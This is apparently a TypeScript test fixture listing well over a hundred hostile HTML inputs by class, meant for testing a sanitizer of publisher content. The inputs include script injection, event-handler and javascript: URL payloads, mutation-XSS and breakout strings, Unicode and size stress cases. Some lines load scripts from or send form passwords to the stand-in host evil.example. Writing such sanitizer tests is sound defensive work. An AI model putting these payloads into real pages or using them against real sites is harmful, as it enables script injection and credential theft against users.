// With what could a publisher's text attack a reader? Our own collection, by what each one tries; and the shared one, where it lies beside us.
import { existsSync, readFileSync } from 'node:fs';

export interface Vector {
  id: string;
  html: string;
}

/** What does not break out of a name is worth trying in every place that carries one. */
const RUN = 'alert(1)';
const long = (piece: string, times: number): string => piece.repeat(times);

const BY_CLASS: Record<string, readonly string[]> = {
  script: [
    `<script>${RUN}</script>`,
    `<SCRIPT/x>${RUN}</SCRIPT\n>`,
    `<script src="https://evil.example/x.js"></script>`,
    `<script type="module">import "https://evil.example/m.js"</script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `&lt;script&gt;${RUN}&lt;/script&gt;`,
    `<p title="&lt;script&gt;">&lt;script&gt;${RUN}&lt;/script&gt;</p>`,
  ],
  handler: [
    `<img src=x onerror=${RUN}>`,
    `<img/src="x"/onerror=${RUN}>`,
    `<img src="https://a.example/x.jpg" width=600 height=400 onload=${RUN}>`,
    `<body onload=${RUN} onpageshow=${RUN}>`,
    `<p onmouseover=${RUN} style="position:fixed;inset:0">over</p>`,
    `<details open ontoggle=${RUN}><summary>more</summary></details>`,
    `<a href="https://a.example/" autofocus tabindex=0 onfocus=${RUN}>f</a>`,
    `<div contenteditable onblur=${RUN}>e</div>`,
    `<marquee onstart=${RUN}>m</marquee>`,
    `<audio src=x onerror=${RUN}></audio><video onloadstart=${RUN}><source onerror=${RUN}></video>`,
    `<p ONCLICK\n=\n${RUN}>c</p><p on\u0000click=${RUN}>d</p>`,
    `<xss onanimationstart=${RUN} style="animation:x 1s" id=x>y</xss>`,
  ],
  'script address': [
    `<a href="javascript:${RUN}">x</a>`,
    `<a href="JaVaScRiPt:${RUN}">x</a>`,
    `<a href="&#106;avascript:${RUN}">x</a>`,
    `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUN}">x</a>`,
    `<a href="\u0001javascript:${RUN}">x</a>`,
    `<a href="jav\tascr\nipt:${RUN}">x</a>`,
    `<a href="javascript&colon;${RUN}">x</a>`,
    `<a href="java&Tab;script&NewLine;:${RUN}">x</a>`,
    `<a href=" &#14; javascript:${RUN}">x</a>`,
    `<a href="javascript://a.example/%0a${RUN}">x</a>`,
    `<a href="vbscript:msgbox(1)">x</a>`,
    `<a href="feed:javascript:${RUN}">x</a>`,
    `<a href="view-source:javascript:${RUN}">x</a>`,
    `<a href="blob:https://a.example/1">x</a><a href="filesystem:https://a.example/1">y</a>`,
    `<a href="javascript:${RUN}"><img src="javascript:${RUN}" alt="x"></a>`,
    `<blockquote cite="javascript:${RUN}">q</blockquote><q cite="javascript:${RUN}">r</q>`,
    `<a ping="https://evil.example/p" href="https://a.example/" target=_top>p</a>`,
    `<img lowsrc="javascript:${RUN}" dynsrc="javascript:${RUN}" longdesc="javascript:${RUN}" src="https://a.example/l.jpg">`,
    `<table background="javascript:${RUN}"><tr><td background="javascript:${RUN}">a<td>b<tr><td>c<td>d</table>`,
  ],
  data: [
    `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
    `<iframe src="data:text/html,<script>${RUN}</script>"></iframe>`,
    `<blockquote class="twitter-tweet"><a href="data:text/html,x">&lt;b&gt;</a></blockquote>`,
  ],
  'foreign markup': [
    `<svg onload=${RUN}></svg>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><a xlink:href="javascript:${RUN}"><text x=9 y=9>x</text></a></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
    `<svg><set attributeName="href" to="javascript:${RUN}"/><a id=a><text>t</text></a></svg>`,
    `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
    `<math href="javascript:${RUN}"><mi>x</mi></math>`,
    `<math><maction actiontype="statusline#https://evil.example/" xlink:href="javascript:${RUN}">c</maction></math>`,
  ],
  mutation: [
    `<math><mtext><table><mglyph><style><img src onerror=${RUN}>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
    `<svg><desc><title><style></title></desc></svg><img src=x onerror=${RUN}></style>`,
    `<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror=${RUN}>">`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<noembed><p title="</noembed><img src=x onerror=${RUN}>">`,
    `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=${RUN}>">`,
    `<table><td><svg><desc><td><style><![CDATA[</style><img src=x onerror=${RUN}>]]>`,
    `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  ],
  'raw text': [
    `<textarea></textarea><img src=x onerror=${RUN}>`,
    `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
    `<title></title><img src=x onerror=${RUN}>`,
    `<xmp><img src=x onerror=${RUN}></xmp>`,
    `<plaintext><img src=x onerror=${RUN}>`,
    `<template><script>${RUN}</script><img src=x onerror=${RUN}></template>`,
    `<template shadowrootmode="open"><img src=x onerror=${RUN}><style>*{display:none}</style></template>`,
  ],
  comment: [
    `<!--><img src=x onerror=${RUN}>-->`,
    `<!---><img src=x onerror=${RUN}>-->`,
    `<!-- --!><img src=x onerror=${RUN}> -->`,
    `<![CDATA[<img src=x onerror=${RUN}>]]>`,
    `]]><img src=x onerror=${RUN}><![CDATA[`,
    `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
    `<?xml-stylesheet href="javascript:${RUN}"?><?php echo 1 ?><img src=x onerror=${RUN}>`,
    `<!DOCTYPE html [<!ENTITY x "<script>${RUN}</script>">]>&x;`,
    `--><script>${RUN}</script><!--`,
  ],
  page: [
    `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
    `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
    `<base href="https://evil.example/"><a href="next">x</a>`,
    `<base href="javascript:"><a href="${RUN}">x</a>`,
    `<base target="_parent"><a href="https://a.example/">x</a>`,
    `<link rel="stylesheet" href="https://evil.example/x.css"><link rel="preload" as="image" href="https://evil.example/p">`,
    `<link rel="dns-prefetch" href="//evil.example"><link rel="import" href="https://evil.example/i">`,
    `</main></body></html><script>${RUN}</script>`,
    `</article></main><h1>Not the headline</h1><div id="__next"></div>`,
  ],
  style: [
    `<style>@import "https://evil.example/x.css";body{display:none}</style>`,
    `<p style="background:url(https://evil.example/t.gif)">x</p>`,
    `<p style="width:expression(${RUN});behavior:url(#default#time2)">x</p>`,
    `<div style="position:fixed;z-index:9999;inset:0;width:9999px">cover</div>`,
    `<p class="btn skip" id="main" name="body">borrowed looks</p>`,
    `<style><img src="</style><img src=x onerror=${RUN}>"></style>`,
    `<table width=99999><tr><td nowrap width=99999>a<td>b<tr><td>c<td>d</table>`,
  ],
  frame: [
    `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
    `<iframe src="javascript:${RUN}"></iframe>`,
    `<iframe src="https://evil.example/" onload=${RUN}></iframe>`,
    `<iframe src="https://www.youtube.com/embed/&quot;><script>${RUN}</script>"></iframe>`,
    `<frameset onload=${RUN}><frame src="javascript:${RUN}"></frameset>`,
    `<object data="javascript:${RUN}"><embed src="javascript:${RUN}"></object>`,
    `<object type="text/html" data="https://evil.example/"><param name=x value=y></object>`,
    `<embed src="https://evil.example/x.swf" allowscriptaccess=always>`,
    `<applet code="x" archive="https://evil.example/x.jar"></applet>`,
    `<portal src="https://evil.example/"></portal><fencedframe src="https://evil.example/"></fencedframe>`,
    `<figure data-embed><a href="javascript:${RUN}">x</a></figure>`,
  ],
  form: [
    `<form action="javascript:${RUN}"><button>send</button></form>`,
    `<form action="https://evil.example/"><input name=password type=password><input type=submit></form>`,
    `<button form=search formaction="javascript:${RUN}">b</button>`,
    `<input type=image src="https://evil.example/i" formaction="https://evil.example/">`,
    `<input autofocus onfocus=${RUN}><select autofocus onfocus=${RUN}></select>`,
    `<form id=search><input name=attributes><input name=parentNode></form>`,
    `<isindex action="javascript:${RUN}" type=submit>`,
  ],
  media: [
    `<img src="https://a.example/x.jpg" srcset="javascript:${RUN} 2x, data:image/gif,x 3x">`,
    `<picture><source srcset="javascript:${RUN}"><img src="x" onerror=${RUN}></picture>`,
    `<video poster="javascript:${RUN}" src="javascript:${RUN}" title="&quot;>&lt;script>"></video>`,
    `<video controls autoplay src="https://evil.example/v.mp4"><track src="https://evil.example/t"></video>`,
    `<img src="https://evil.example/open.gif" width=1 height=1>`,
    `<img src="//evil.example/p.png?u=1" width="600" height="400" referrerpolicy="unsafe-url" alt="p">`,
    `<img src="https://a.example/x.jpg" usemap="#m"><map name=m><area shape=rect coords=0,0,9,9 href="javascript:${RUN}"></map>`,
    `<image src=x onerror=${RUN}>`,
  ],
  'attribute breakout': [
    `<img alt="&quot; onerror=&quot;${RUN}" src="https://a.example/x.jpg">`,
    `<img alt="\`onerror=${RUN} \`" src="https://a.example/y.jpg">`,
    `"><script>${RUN}</script>`,
    `'><img src=x onerror=${RUN}>`,
    `" onmouseover="${RUN}" x="`,
    `' autofocus onfocus='${RUN}`,
    `<a href='https://a.example/"onclick="${RUN}'>x</a>`,
    `<pre><code class="language-x&quot; onclick=&quot;${RUN}">x</code></pre>`,
    `<figure><img src="https://a.example/z.jpg"><figcaption>&lt;img src=x onerror=${RUN}&gt;</figcaption></figure>`,
    `<figure><img src="https://a.example/c.jpg" alt='"><svg onload=${RUN}>'><figcaption>"><svg onload=${RUN}></figcaption></figure>`,
    `<table><caption>&lt;svg onload=${RUN}&gt;</caption><tr><td>a<td>b<tr><td>c<td>d</table>`,
  ],
  'data breakout': [
    `</script><script>${RUN}</script>`,
    `</ScRiPt ><img src=x onerror=${RUN}>`,
    `<!--<script>`,
    `\\u003c/script>\\u003cscript>${RUN}</script>`,
    `"}];${RUN};//`,
    `\u2028${RUN}\u2029//`,
    `]]>\`\${${RUN}}\``,
    `{{constructor.constructor('${RUN}')()}} <%= 7*7 %> \${7*7} #{7*7}`,
    `self.__next_f.push([1,"</script>"])`,
    `</title><script>${RUN}</script><title>`,
    `</noscript><script>${RUN}</script>`,
    `javascript:${RUN}`,
  ],
  letters: [
    '\u202egnp.exe\u202c harmless \u2066isolated\u2069 \u200f\u200e',
    `${long('\u202e', 60)}reversed`,
    'zero\u200bwidth\u200cjoined\u200dletters\ufeffhere\u2060now',
    `Z${long('\u0301\u0334\u0489', 120)}algo`,
    long('Donaudampfschifffahrts', 60),
    long('https://a.example/', 40),
    long('\u00a0', 300),
    long('ﷺ𒐫', 40),
    long('\u{1f468}\u200d\u{1f469}\u200d\u{1f467}', 80),
    'nul\u0000bell\u0007escape\u001b[31m delete\u007f c1\u0085\u009b',
    'lone\ud800surrogate\udfff',
    '&#0;&#x0;&#xd800;&#x110000;&#x1f;&notanentity;&amp;amp;lt;',
    '&lt;<&lt;/b>&amp;lt;script&amp;gt;',
  ],
  size: [
    `${long('<div>', 3000)}deep${long('</div>', 3000)}`,
    `${long('<b><i>', 600)}deep`,
    `${long('<blockquote>', 500)}deep`,
    `${long('<ul><li>', 400)}deep`,
    `${long('<table><tr><td>', 150)}deep`,
    `${long('<svg><foreignObject>', 150)}<script>${RUN}</script>`,
    `<a ${long('x=y ', 3000)}href="https://a.example/">many</a>`,
    `<p>${long('<br>', 5000)}far</p>`,
    `<pre>${long('x', 9000)}</pre>`,
    `<a href="https://a.example/?${long('q', 9000)}">${long('w', 3000)}</a>`,
    `<h2>${long('Überschrift', 200)}</h2><ol start=-99999999999><li>${long('i', 500)}</ol>`,
    `<table><tr>${long('<td>cell', 60)}<tr>${long('<td>cell', 60)}</table>`,
    `<img src="https://a.example/wide.jpg" width=99999 height=1><img src="https://a.example/high.jpg" width=4 height=99999>`,
  ],
  address: [
    '<a href="https://user:pass@a.example/">x</a>',
    '<a href="//evil.example">x</a><a href="\\\\evil.example\\x">y</a>',
    '<a href="https://a.example/%0d%0aSet-Cookie:x=1">x</a>',
    '<a href="/sign-out">x</a><a href="?error=x">y</a><a href="#main">z</a>',
    '<a href="tel:0900">x</a><a href="intent://a#Intent;end">y</a><a href="ms-word:ofe|u|https://evil.example/">z</a>',
    '<a href="mailto:a@b.example?bcc=c@d.example&body=%0d%0ax">x</a>',
    '<a href="https://xn--80ak6aa92e.example/">х</a><a href="https://①②⑦.0.0.1/">y</a>',
  ],
};

/** Our own, named by class and number. */
export const OWN_VECTORS: readonly Vector[] = Object.entries(BY_CLASS).flatMap(([name, list]) =>
  list.map((html, n) => ({ id: `${name} ${n + 1}`, html })),
);

const SHARED = '../shared/corpus/hostile/html.jsonl';

/** Null where there is no shared collection. */
export function sharedVectors(): Vector[] | null {
  if (!existsSync(SHARED)) return null;
  const lines = readFileSync(SHARED, 'utf8').split('\n').filter(Boolean);
  return lines.map((line) => {
    const { set, id, html } = JSON.parse(line) as { set: string; id: string; html: string };
    return { id: `${set} ${id}`, html };
  });
}
